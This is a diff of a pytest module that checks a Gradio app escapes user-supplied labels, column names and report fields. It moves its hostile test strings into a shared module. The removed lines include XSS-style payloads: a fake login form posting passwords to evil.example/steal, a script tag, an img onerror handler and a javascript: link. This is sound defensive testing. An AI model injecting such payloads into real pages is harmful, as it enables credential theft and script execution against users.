@@ -1,19 +1,18 @@
 """Text from users reaches the app's page as text, never as Markdown or HTML, and never whole when long.
 
 Labels (a manifest's column, folder names), a gallery's info.json, a manifest's column names and a run report's
-fields are anyone's text. Each hostile string below (a backtick that closes a code span, then a login form; a
-Markdown image from another site; a javascript: link; raw tags; a table; $$ maths; 5 MB) goes through the functions
-that build the page's text, and the Markdown they produce is rendered with a CommonMark renderer (markdown-it, HTML
-allowed, as Gradio's marked allows it): it must hold no tag, link or image of its own, show the text as it is, and
-stay short. tests/test_browser_escaping.py checks the same page in Chromium with Gradio's own renderer.
+fields are anyone's text. Each hostile string (tests/hostile_text.py: a backtick that closes a code span, then a
+login form; a Markdown image from another site; a javascript: link; raw tags; a table; $$ maths; and 5 MB) goes
+through the functions that build the page's text, and the Markdown they produce is rendered with a CommonMark
+renderer (markdown-it, HTML allowed, as Gradio's marked allows it): it must hold no tag, link or image of its own,
+show the text as it is, and stay short. tests/test_browser_escaping.py checks the same page in Chromium with
+Gradio's own renderer.
 """
 
 from __future__ import annotations
 
-import csv
 import json
 import re
-import shutil
 from html.parser import HTMLParser
 from pathlib import Path
 from types import SimpleNamespace
@@ -21,6 +20,7 @@ from types import SimpleNamespace
 import gradio as gr
 import pytest
 from fastapi.testclient import TestClient
+from hostile_text import FORM, HOSTILE, LONG_COLUMN, build_hostile_index
 from serve_fixtures import shared_artifacts
 
 from retrieval.reports import REPORT_FORMAT
@@ -40,19 +40,6 @@ from retrieval.serve.upload_cache import UploadRecords
 markdown_it = pytest.importorskip("markdown_it", reason="markdown-it-py renders the Markdown under test")
 pytestmark = pytest.mark.timeout(300)
 
-FORM = ("!`<form action=https://evil.example/steal><input type=password name=pw>"
-        "<button>Sign in</button></form>")
-HOSTILE = (
-    FORM,
-    "![x](http://evil.example/x.png)",
-    "<img src=//evil.example/i.png onerror=alert(1)>",
-    "[click](javascript:alert(1))",
-    "<script>alert(1)</script>",
-    "x\n\n<div>block</div>\n\n| a | b |\n|---|---|\n| c | d |",
-    "$$\\href{http://evil.example}{x}$$ https://evil.example/a www.evil.example me@evil.example",
-    "``<b>two backticks</b>`` and `one`",
-    "**bold** _it_ ~~gone~~ # hash &lt;entity&gt; &amp; <http://evil.example/auto>",
-)
 HUGE = "<form>" + "y" * 5_000_000  # 5 MB: never sent whole
 # what a rendering of user text may hold: Markdown's own emphasis around it, code spans, the page's own headings,
 # lists and links to its own paths
@@ -216,37 +203,6 @@ def test_a_run_reports_fields_are_shown_as_text(tmp_path, field):
 
 
 # --- the app over an index whose labels, info.json and column names are hostile ---------------------------
-LONG_COLUMN = "c" * 64  # a manifest column name (an identifier, at most 64 characters): the where box names it
-
-
-def write_hostile_gallery(root: Path, images: list[Path]) -> Path:
-    """Two images per hostile label in a manifest with a long extra column, and a hostile info.json."""
-    root.mkdir(parents=True)
-    rows = []
-    for i, label in enumerate([*HOSTILE, "z" * 110_000]):  # under csv's 128 KiB field limit
-        for j in range(2):
-            name = f"{i}_{j}.png"
-            shutil.copyfile(images[(2 * i + j) % len(images)], root / name)
-            rows.append({"path": name, "label": label, LONG_COLUMN: "v"})
-    with (root / "manifest.csv").open("w", newline="") as handle:
-        writer = csv.DictWriter(handle, ["path", "label", LONG_COLUMN])
-        writer.writeheader()
-        writer.writerows(rows)
-    (root / "info.json").write_text(json.dumps({
-        "dataset": f"d{FORM}", "description": f"find {HOSTILE[1]} {HOSTILE[3]}", "purpose": f"Find {HOSTILE[1]}"}))
-    return root / "manifest.csv"
-
-
-def build_hostile_index(root: Path, model: Path, images: list[Path]) -> Path:
-    """An index of ``write_hostile_gallery``'s manifest (for this file and the browser test)."""
-    from retrieval.index import IngestOptions, build_index
-
-    manifest = write_hostile_gallery(root / "gallery", images)
-    build_index(manifest, root / "index", model=model,
-                options=IngestOptions(batch_size=16, workers=0, progress=False))
-    return root / "index"
-
-
 @pytest.fixture(scope="module")
 def hostile(tmp_path_factory):
     artifacts = shared_artifacts(tmp_path_factory)
